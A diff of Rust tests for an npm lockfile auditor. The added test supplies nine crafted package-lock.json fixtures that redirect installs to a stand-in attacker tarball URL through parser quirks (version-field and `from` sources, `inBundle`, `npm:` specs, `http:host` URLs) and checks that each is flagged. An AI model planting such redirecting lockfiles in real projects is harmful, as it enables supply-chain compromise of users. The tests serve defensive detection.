@@ -266,13 +266,20 @@ fn no_colour_unless_a_terminal() {
 #[test]
 fn offline_flag_is_accepted_and_the_report_says_what_was_not_checked() {
     let (_, report) = json_report(&["--offline", "fixtures/clean"]);
-    assert_eq!(report["checks"], serde_json::json!(["lockfile"]));
+    assert_eq!(report["summary"]["evidence"]["registry"]["unknown"], 2);
+    let notes: Vec<&str> = report["notes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|n| n.as_str())
+        .collect();
     assert!(
-        report["notes"][0]
-            .as_str()
-            .unwrap()
-            .contains("were not checked")
+        notes
+            .iter()
+            .any(|n| n.contains("registry evidence unknown for 2 entries (offline")),
+        "{notes:?}"
     );
+    assert!(notes.iter().any(|n| n.contains("provenance")), "{notes:?}");
 }
 
 #[test]
@@ -336,4 +343,131 @@ fn duplicate_keys_are_reported_where_npm_would_take_the_last() {
     );
     let lock = lockfile::load(dir.path()).unwrap();
     assert_eq!(lock.entries[0].version.as_deref(), Some("6.6.6"));
+}
+
+/// Writes `content` as `name` in a fresh folder and audits it (JSON).
+fn audit_text(name: &str, content: &str) -> (i32, serde_json::Value) {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join(name), content).unwrap();
+    json_report(&[dir.path().to_str().unwrap()])
+}
+
+const EVIL_INTEGRITY: &str = "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==";
+
+/// Lockfiles that make npm install from an attacker's host while looking
+/// clean to a naive reader (found in review, each checked against npm 11).
+#[test]
+fn lockfiles_that_redirect_npm_are_caught() {
+    let evil = "http://127.0.0.1:4873/evil/-/evil-1.0.0.tgz";
+    let v3 = |entry: &str| {
+        format!(
+            r#"{{"lockfileVersion": 3, "packages": {{"": {{"name": "app"}}, "node_modules/lodash": {entry}}}}}"#
+        )
+    };
+    let cases = [
+        // npm reads `packages` whatever lockfileVersion says.
+        (
+            format!(
+                r#"{{"lockfileVersion": 1, "dependencies": {{"lodash": {{"version": "4.17.21", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "integrity": "{EVIL_INTEGRITY}"}}}},
+              "packages": {{"node_modules/lodash": {{"version": "4.17.21", "resolved": "{evil}", "integrity": "{EVIL_INTEGRITY}"}}}}}}"#
+            ),
+            "insecure-url",
+        ),
+        // npm ignores `inBundle` on a child of the root.
+        (
+            v3(&format!(
+                r#"{{"version": "4.17.21", "resolved": "{evil}", "integrity": "{EVIL_INTEGRITY}", "inBundle": true}}"#
+            )),
+            "insecure-url",
+        ),
+        // `resolved` that npm reads as a spec.
+        (
+            v3(r#"{"version": "4.17.21", "resolved": "npm:evil@1.0.0"}"#),
+            "unverifiable-source",
+        ),
+        (
+            v3(
+                r#"{"version": "4.17.21", "resolved": "evil/repo#0123456789abcdef0123456789abcdef01234567"}"#,
+            ),
+            "unverifiable-source",
+        ),
+        (
+            v3(r#"{"version": "4.17.21", "resolved": "1.0.0"}"#),
+            "unverifiable-source",
+        ),
+        // WHATWG accepts `http:host/path`.
+        (
+            v3(&format!(
+                r#"{{"version": "4.17.21", "resolved": "http:127.0.0.1:4873/evil/-/evil-1.0.0.tgz?", "integrity": "{EVIL_INTEGRITY}"}}"#
+            )),
+            "host-not-allowed",
+        ),
+        // v1: npm takes the source from `version`, or from `from`.
+        (
+            format!(
+                r#"{{"lockfileVersion": 1, "dependencies": {{"lodash": {{"version": "{evil}", "resolved": "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "integrity": "{EVIL_INTEGRITY}"}}}}}}"#
+            ),
+            "unverifiable-source",
+        ),
+        (
+            format!(
+                r#"{{"lockfileVersion": 1, "dependencies": {{"lodash": {{"from": "{evil}", "integrity": "{EVIL_INTEGRITY}"}}}}}}"#
+            ),
+            "insecure-url",
+        ),
+        (
+            format!(
+                r#"{{"lockfileVersion": 1, "dependencies": {{"lodash": {{"version": "4.17.21", "resolved": "{evil}", "integrity": "{EVIL_INTEGRITY}", "bundled": true}}}}}}"#
+            ),
+            "insecure-url",
+        ),
+    ];
+    for (i, (content, code)) in cases.iter().enumerate() {
+        let (exit, report) = audit_text("package-lock.json", content);
+        let found = codes(&report);
+        assert!(
+            found.iter().any(|(c, _)| c == code),
+            "case {i}: expected {code}, got {found:?}"
+        );
+        assert_eq!(exit, 1, "case {i} must fail the gate: {found:?}");
+    }
+}
+
+#[test]
+fn multibyte_paths_do_not_crash() {
+    for resolved in [
+        "file:\u{20ac}\u{20ac}",
+        "https://registry.npmjs.org/a/-/%E2%82%AC%E2%82%AC",
+    ] {
+        let content = format!(
+            r#"{{"lockfileVersion": 3, "packages": {{"node_modules/a": {{"version": "1.0.0", "resolved": "{resolved}"}}}}}}"#
+        );
+        let (exit, _) = audit_text("package-lock.json", &content);
+        assert!(exit == 0 || exit == 1, "{resolved}: exit {exit}");
+    }
+}
+
+#[test]
+fn a_named_package_lock_is_audited_with_the_shrinkwrap_npm_reads() {
+    let (code, report) = json_report(&["fixtures/shrinkwrap-wins/package-lock.json"]);
+    assert_eq!(code, 1);
+    let files: Vec<&str> = report["lockfiles"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| l["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        files,
+        vec![
+            "fixtures/shrinkwrap-wins/package-lock.json",
+            "fixtures/shrinkwrap-wins/npm-shrinkwrap.json"
+        ]
+    );
+    assert!(
+        report["notes"][0]
+            .as_str()
+            .unwrap()
+            .contains("npm installs from")
+    );
 }
